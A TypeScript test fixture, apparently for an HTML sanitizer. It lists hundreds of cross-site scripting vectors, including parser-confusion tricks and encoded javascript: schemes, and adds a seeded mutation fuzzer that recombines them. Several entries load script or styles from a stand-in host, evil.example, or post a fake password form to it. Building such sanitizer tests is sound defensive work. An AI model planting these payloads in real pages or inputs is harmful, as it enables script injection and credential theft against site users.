// Markup that runs something, loads something or changes the page around it where it is not cleaned: written out, and made of parts.
const alert = 'alert(1)'

/** What browsers, editors and cleaners have stumbled over; one by one. */
const known = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script/xss>alert(1)</script>', '<script\n>alert(1)</script\n>', '<script>alert(1)', '<script src=data:,alert(1)>',
  '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src=x\tonerror\t=\talert(1)>', '<img """><script>alert(1)</script>">', '<img src=`x`onerror=alert(1)>', '<img src=x:x onerror=alert(1)//', '<image src=x onerror=alert(1)>', '<img src="https://evil.example/pixel.gif">', '<img src=x onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script xlink:href=data:,alert(1) />', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<svg><title><a id="</title><img src=x onerror=alert(1)>"></title>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<math href="javascript:alert(1)">x</math>', '<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">', '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<style><p title="</style><img src=x onerror=alert(1)>">', '<iframe><p title="</iframe><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<select><style></select><img src=x onerror=alert(1)></style>', '<template><script>alert(1)</script></template>', '<listing>&lt;img onerror="alert(1);//" src=x&gt;</listing>',
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<!--><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<?php echo 1 ?><img src=x onerror=alert(1)>', '<!doctype html [<!entity x "<script>alert(1)</script>">]>&x;', '<comment><img src="</comment><img src=x onerror=alert(1)">',
  '<p style="background:url(https://evil.example/x)">x</p>', '<p style="position:fixed;inset:0;background:#fff">Sign in again</p>', '<style>@import "https://evil.example/x.css";</style>', '<link rel=stylesheet href=https://evil.example/x.css>', '<link rel=import href="data:text/html,<script>alert(1)</script>">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<img src=x onerror=alert(1)>">', '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<applet code="x">', '<frameset onload=alert(1)>', '<portal src="javascript:alert(1)">', '<fencedframe src=x>',
  '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>', '<button form=x formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>', '<isindex action="javascript:alert(1)" type=image>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<dialog open>x</dialog>', '<slot name=x>', '<is-x onfocus=alert(1) tabindex=1>',
  '<p id=location>x</p>', '<a id=document name=cookie>x</a>', '<p class="b danger">x</p>', '<p contenteditable autofocus onfocus=alert(1)>x</p>', '<p data-x="1" aria-label="x" role="button" tabindex=0>x</p>', '<p is="x-y">x</p>', '<p slot=x part=y>x</p>', '<p xmlns:x="http://www.w3.org/1999/xhtml" x:onclick="alert(1)">x</p>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '<blockquote cite="javascript:alert(1)">x</blockquote>', '<ol start=9 type=i onclick=alert(1)><li value=3>x</ol>',
  '<a href="//evil.example/x">x</a>', '<a href=" //evil.example/x">x</a>', '<a href="/\t/evil.example/x">x</a>', '<a href="\t\n//evil.example/x">x</a>', '<a href="/\n\\evil.example/x">x</a>', '<a href="\\\\evil.example/x">x</a>', '<a href="/\\evil.example">x</a>', '<a href="https://goed.example" ping="https://evil.example" onclick=alert(1) style="x" target=_top download>x</a>', '<a href=x target="_self" rel=opener>x</a>', '<a/href=javascript:alert(1)>x</a>', '<a href=x><a href=javascript:alert(1)>y</a></a>', "<a href='x'onclick='alert(1)'>x</a>", '<a href="x" / onclick="alert(1)">x</a>', '<a title="<img src=x onerror=alert(1)>" href="x">x</a>', '<a href="x" title=\'"><img src=x onerror=alert(1)>\'>x</a>', '<a\u0000href="javascript:alert(1)">x</a>', '<a href="&quot;><img src=x onerror=alert(1)>">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '%3Cscript%3Ealert(1)%3C/script%3E', '\u003cimg src=x onerror=alert(1)\u003e', '＜img src=x onerror=alert(1)＞', '<\u0000img src=x onerror=alert(1)>', '<img\u000bsrc=x onerror=alert(1)>', '<\u00adscript>alert(1)</script>', '< script>alert(1)</ script>', '</script><img src=x onerror=alert(1)>', '<p><p></script <img src=x onerror=alert(1)>', '<b <script>alert(1)</script>0', '<strong onmouseover=alert(1)>x', '<em/onclick=alert(1)>x', '<li><ul><p><table><td><img src=x onerror=alert(1)>',
]

const handlers = ['onclick', 'onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'ONCLICK', 'onclick ', 'on\u0000click']
const carriers = ['p', 'details', 'body', 'strong', 'em', 'a', 'li', 'h2', 'blockquote', 'u', 's', 'div', 'span', 'svg', 'math', 'table', 'video', 'input']
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\nscript:', 'java\tscript:', 'java\u0000script:', '\u0001javascript:', ' javascript:', 'javascript&colon;', 'javascript&#58;', '&#106;avascript:', '&#x6A;avascript:', '&#0000106avascript:', 'java&Tab;script:', 'java&NewLine;script:', 'vbscript:', 'livescript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,', 'blob:https://x/', 'file:///', 'feed:javascript:', 'view-source:javascript:', 'filesystem:https://x/', 'intent://x#Intent;', 'ms-word:ofe|u|', 'jar:https://x!/', 'mhtml:https://x!', 'about:srcdoc', 'ws://x', '\u2028javascript:', '\ufeffjavascript:', 'javascript\u00ad:']
const places = [(url: string) => `<a href="${url}${alert}">x</a>`, (url: string) => `<a href='${url}${alert}'>x</a>`, (url: string) => `<a href=${url.replaceAll(/\s/g, '&#9;')}${alert}>x</a>`, (url: string) => `<img src="${url}${alert}">`, (url: string) => `<a xlink:href="${url}${alert}" href="/eigen">x</a>`]

/** More than five hundred of them. */
export const vectors: readonly string[] = [
  ...known,
  ...carriers.flatMap((tag) => handlers.map((handler, at) => (at % 2 === 0 ? `<${tag} ${handler}=${alert}>x</${tag}>` : `<${tag} title="x" ${handler}="${alert}" href="/eigen">x`))),
  ...schemes.flatMap((scheme) => places.map((place) => place(scheme))),
]

/** Numbers that come out the same on every run. */
export function numbersFrom(seed: number) {
  let state = seed
  return (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
}

const bits = ['<', '>', '"', "'", '`', '=', '/', '\u0000', '\t', '\n', ' ', '&', ';', '&lt;', '&gt;', '&quot;', '<!--', '-->', '--!>', '<![CDATA[', ']]>', '<p>', '</p>', '<strong>', '</strong>', '<a href="', '<svg>', '</svg>', '<math>', '<style>', '</style>', '<title>', '</title>', '<table>', '<template>', '<br/>', ' onclick=alert(1) ', 'javascript:', '\u2028', '\ud800', 'é']

/** One vector changed a few times: cut, doubled, joined with another, or with a piece put in. */
export function mutation(next: (below: number) => number): string {
  const one = () => vectors[next(vectors.length)] as string
  let text = one()
  for (let left = 1 + next(4); left > 0; left--) {
    const at = next(text.length + 1)
    const till = at + next(6)
    const ways = [() => text.slice(0, at) + (bits[next(bits.length)] as string) + text.slice(at), () => text.slice(0, at) + text.slice(till), () => text.slice(0, at) + one() + text.slice(at), () => text.slice(0, till) + text.slice(at), () => text + one()]
    text = (ways[next(ways.length)] as () => string)().slice(0, 4000)
  }
  return text
}
